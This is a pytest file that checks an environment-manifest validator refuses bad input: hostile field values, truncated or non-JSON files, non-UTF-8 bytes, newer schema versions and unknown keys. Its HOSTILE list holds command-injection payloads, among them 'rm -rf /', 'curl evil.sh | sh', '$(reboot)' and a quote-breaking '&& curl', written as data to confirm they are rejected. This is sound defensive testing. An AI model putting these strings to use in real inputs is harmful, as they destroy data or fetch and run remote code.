"""validate and load: hostile, truncated, foreign and future manifests are refused with clear lines."""

import copy
import json
from pathlib import Path

import pytest


from clirun import envcapture, freeze

REPO = Path(__file__).parents[2]


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    path = tmp_path_factory.mktemp("m") / "good.json"
    freeze("-o", path, "--project", path.parent)
    return json.loads(path.read_text())


def write(tmp_path, data, name="m.json"):
    path = tmp_path / name
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    return path


def test_a_fresh_freeze_is_valid(good, tmp_path):
    proc = envcapture("validate", write(tmp_path, good))
    assert proc.returncode == 0, proc.stderr


HOSTILE = [
    (("python_packages", 0, "version"), "1.0; rm -rf /",
     'python_packages[0].version: "1.0; rm -rf /" is not a PEP 440 version'),
    (("python_packages", 0, "name"), "six\nRUN curl evil.sh | sh", "python_packages[0].name:"),
    (("python", "version"), "3.11.7$(reboot)", "python.version:"),
    (("os", "codename"), "bookworm`id`", "os.codename:"),
    (("python", "executable"), "/usr/bin/python\u2028RUN x", "python.executable:"),
    (("python_packages", 0, "requires"), ["six\r\nRUN evil"], "python_packages[0].requires[0]:"),
    (("python_packages", 0, "source"), {"kind": "vcs", "url": "git+https://x/y.git\" && curl z"},
     "python_packages[0].source.url:"),
    (("python_packages", 0, "source"), {"kind": "vcs", "url": "https://user:pw@example.com/r.git"},
     "python_packages[0].source.url:"),
    (("python", "markers", "python_version"), "3.11' or '1", "python.markers.python_version:"),
    (("os", "pretty_name"), "x" * 5000, "os.pretty_name:"),
]


@pytest.mark.parametrize("where,value,expected", HOSTILE, ids=[h[2][:40] for h in HOSTILE])
def test_hostile_values_are_refused_with_the_field_named(good, tmp_path, where, value, expected):
    data = copy.deepcopy(good)
    if not data["python_packages"]:
        pytest.skip("needs one package")
    node = data
    for key in where[:-1]:
        node = node[key]
    node[where[-1]] = value
    proc = envcapture("validate", write(tmp_path, data))
    assert proc.returncode == 2
    assert expected in proc.stderr
    assert "Traceback" not in proc.stderr


def test_newer_schema_version_names_both_versions(good, tmp_path):
    data = dict(good, schema_version=7)
    proc = envcapture("validate", write(tmp_path, data))
    assert proc.returncode == 2
    assert "version 7" in proc.stderr and "version 1" in proc.stderr


@pytest.mark.parametrize("content,expected", [
    ('{"schema_version": 1, "envcapture": {', "truncated"),
    ("not json at all", "not valid JSON"),
    ("[1, 2]", "a manifest is a JSON object"),
    ("{}", "'schema_version' is a required property"),
])
def test_broken_files(tmp_path, content, expected):
    proc = envcapture("validate", write(tmp_path, content))
    assert proc.returncode == 2
    assert expected in proc.stderr and "Traceback" not in proc.stderr


def test_a_syntax_error_inside_the_file_is_not_called_truncated(tmp_path):
    proc = envcapture("validate", write(tmp_path, '{"schema_version": 1,, "envcapture": {}}'))
    assert proc.returncode == 2
    assert "not valid JSON at line 1 column 22" in proc.stderr and "truncated" not in proc.stderr


def test_non_utf8_and_missing_files(tmp_path):
    path = tmp_path / "bin.json"
    path.write_bytes(b"\xff\xfe{}")
    assert "not UTF-8" in envcapture("validate", path).stderr
    proc = envcapture("validate", tmp_path / "absent.json")
    assert proc.returncode == 2 and "no such file" in proc.stderr


def test_unknown_keys_are_refused(good, tmp_path):
    data = dict(good, surprise={"x": 1})
    proc = envcapture("validate", write(tmp_path, data))
    assert proc.returncode == 2 and "unknown key" in proc.stderr


def test_schema_command_matches_the_published_file():
    proc = envcapture("schema")
    assert proc.returncode == 0
    assert proc.stdout == (REPO / "envcapture" / "manifest" / "manifest.schema.json").read_text()
    import jsonschema

    jsonschema.Draft202012Validator.check_schema(json.loads(proc.stdout))


def test_show_prints_sections_and_json(good, tmp_path):
    path = write(tmp_path, good)
    text = envcapture("show", path)
    assert text.returncode == 0
    for heading in ("Environment", "Python packages", "Determinism"):
        assert heading in text.stdout
    assert json.loads(envcapture("show", path, "--format", "json").stdout) == good
    assert envcapture("show", tmp_path / "none.json").returncode == 2
